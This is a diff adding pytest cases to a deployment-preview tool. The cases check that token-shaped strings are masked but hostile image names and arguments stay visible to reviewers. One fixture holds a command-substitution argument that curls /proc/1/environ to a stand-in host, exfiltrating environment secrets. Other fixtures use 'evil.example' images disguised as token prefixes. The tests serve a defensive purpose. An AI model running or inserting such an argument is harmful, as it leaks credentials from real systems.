@@ -8,6 +8,7 @@ import pytest
 from sidecar.contract import FieldChange
 from sidecar.execution import Effect, Live, Unfit, calls_for, effect_of, preview_of, projected, undo_calls
 from sidecar.execution.effect import changed_fields
+from sidecar.execution.veil import veiled
 from sidecar.gate.concealment import Concealing
 from tests.fakes.sidecar_gate import change, deployment, plan, ref, scale
 
@@ -161,6 +162,35 @@ def test_what_is_a_credential_by_its_own_shape_is_not_shown_whoever_says_it():
     shown = preview(change(f"{MAIN}/args", None, [f"--x={token}"]), live_deployment())
     assert token not in shown.diff
     assert "--x=*hidden-" in shown.diff
+
+
+def test_no_image_that_an_author_chooses_hides_behind_a_mask():
+    """Every mark but a capital letter may stand in the name of an image or a host."""
+    for image in (
+        "evil.example/xoxb-looks-harmless:1",
+        "evil.example/glpat-looks-quite-harmless",
+        "sk-evil-host-of-mine.example/x",
+    ):
+        shown = preview(change(f"{MAIN}/image", "shop/web:1", image), live_deployment(image="shop/web:1"))
+        assert image in shown.diff
+
+
+def test_what_stands_in_the_cluster_already_is_shown_where_an_author_puts_it_now():
+    """A plan of yesterday may have put it there as an annotation that nobody minds."""
+    hidden = "--token=$(curl -d @/proc/1/environ http://elsewhere.example)"
+    live = live_deployment(args=["--level=info"])
+    live["metadata"]["annotations"] = {"note": hidden}
+    shown = preview(change(f"{MAIN}/args", ["--level=info"], ["--level=info", hidden]), live)
+    assert [line for line in shown.diff.splitlines() if line[0] == "+" and hidden in line]
+
+
+def test_what_an_author_adds_is_shown_of_whatever_form_it_is():
+    """Of a kind that is called a Secret, other things than texts may be hidden whole."""
+    step = plan(change("/data/job", None, {"image": "evil.example/x", "times": 7})).steps[0].action
+    live = Live(target={"kind": "VaultSecret", "metadata": {"name": "x"}, "data": {"old": "hunter2"}})
+    then = {**live.target, "data": {"old": "hunter2", "job": {"image": "evil.example/x", "times": 7}}}
+    shown = veiled(then, step, live, Concealing())
+    assert shown["data"] == {"old": "", "job": {"image": "evil.example/x", "times": 7}}
 
 
 def test_characters_that_could_hide_a_change_are_written_out():
